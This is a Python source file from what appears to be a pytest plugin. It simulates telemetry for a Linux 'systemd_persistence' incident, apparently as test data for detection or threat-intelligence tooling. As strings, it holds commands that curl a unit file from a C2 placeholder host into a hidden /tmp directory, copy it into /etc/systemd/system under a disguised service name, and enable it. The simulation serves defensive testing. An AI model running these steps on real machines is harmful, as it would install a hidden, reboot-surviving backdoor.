"""The systemd_persistence campaign (moved unchanged from the old single module; to be converted)."""

from __future__ import annotations

from pytest_ctirealm.telemetry.context import SimContext
from pytest_ctirealm.telemetry.environment import linux_host
from pytest_ctirealm.telemetry.scenarios.base import Stages, Timeline, incident_start, scenario
from pytest_ctirealm.telemetry.scenarios.linux.common import C2, root_session


@scenario(
    "systemd_persistence",
    "linux",
    ("access", "unit_fetch", "unit_staged_file", "unit_copy", "unit_file", "unit_enabled"),
)
def systemd_persistence(ctx: SimContext) -> Stages:
    """A unit file prepared in /tmp is copied into /etc/systemd/system and enabled, so the
    backdoor survives reboots under a name that looks like a system service."""
    t = Timeline(ctx, "systemd_persistence", linux_host("vm-app01"), incident_start(ctx, "systemd"))
    root = root_session(t)
    unit = "dbus-org.freedesktop.update.service"
    fetch = t.run(
        "unit_fetch",
        root,
        "/usr/bin/curl",
        f"curl -s http://{C2}/s -o /tmp/.u/{unit}",
        after=(30, 90),
    )
    t.file("unit_staged_file", fetch, "FileCreated", f"/tmp/.u/{unit}", size=212)
    copy = t.run("unit_copy", root, "/usr/bin/cp", f"cp /tmp/.u/{unit} /etc/systemd/system/")
    t.file("unit_file", copy, "FileCreated", f"/etc/systemd/system/{unit}", size=212)
    t.run("unit_enabled", root, "/usr/bin/systemctl", f"systemctl enable --now {unit}")
    return t.stages
